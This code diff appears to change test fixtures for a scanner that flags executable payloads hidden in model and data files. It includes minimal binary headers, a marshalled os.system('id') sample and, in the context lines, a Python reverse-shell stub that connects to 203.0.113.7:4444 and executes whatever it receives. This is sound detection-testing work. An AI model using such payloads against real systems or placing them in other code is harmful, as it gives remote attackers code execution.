@@ -18,7 +18,7 @@ from assembly import EVIL
 ELF = b"\x7fELF\2\1\1" + bytes(9) + b"\3\0\x3e\0\1\0\0\0" + bytes(28) + b"\x40\0\x38\0\x0b\0\x40\0\0\0\0\0"
 PE = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0\x64\x86" + bytes(18)
 MACH_O = b"\xcf\xfa\xed\xfe\x0c\0\0\1\0\0\0\0\6\0\0\0\1\0\0\0\x28\0\0\0" + bytes(40)
-WASM = b"\0asm\1\0\0\0\1\4\1\x60\0\0"
+WASM = b"\0asm\1\0\0\0\1\4\1\x60\0\0\3\2\1\0\x0a\4\1\2\0\x0b"
 JAVA = base64.b64decode("yv66vgAAADQADQoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClW")
 PYC = MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("import os; os.getpid()", "x", "exec"))
 
@@ -34,7 +34,8 @@ PAYLOADS: dict[str, tuple[bytes, frozenset[str]]] = {
         b"import socket\ns = socket.create_connection(('203.0.113.7', 4444))\nexec(s.recv(4096))\n",
         frozenset({"PAY122"}),
     ),
-    "marshal": (marshal.dumps(compile("import os; os.system('id')", "x", "exec")), frozenset({"PAY121"})),
+    # Keras has a rule of its own for code that it would run.
+    "marshal": (marshal.dumps(compile("import os; os.system('id')", "x", "exec")), frozenset({"PAY121", "KER103"})),
     "elf": (ELF, frozenset({"PAY121"})),
     "pe": (PE, frozenset({"PAY121"})),
     "mach-o": (MACH_O, frozenset({"PAY121"})),
@@ -72,6 +73,8 @@ def twins(seed: int) -> dict[str, bytes]:
         "prose": b"The system runs a process and opens a connection; see os.system() for how not to do that. " * 3,
         "source": b"import math\n\ndef area(r):\n    return math.pi * r ** 2\n\nprint(area(2.0))\n",
         "a pickle": pickle.dumps({"mean": [0.5, 0.25], "name": "x"}, 2),
-        "an array": b"\x93NUMPY\x01\0v\0{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }".ljust(127) + b"\n" + bytes(16),
+        "an array": b"\x93NUMPY\x01\0v\0{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }".ljust(127)
+        + b"\n"
+        + bytes(16),
         "magic numbers": b"MZ" + generator.randbytes(80),
     }
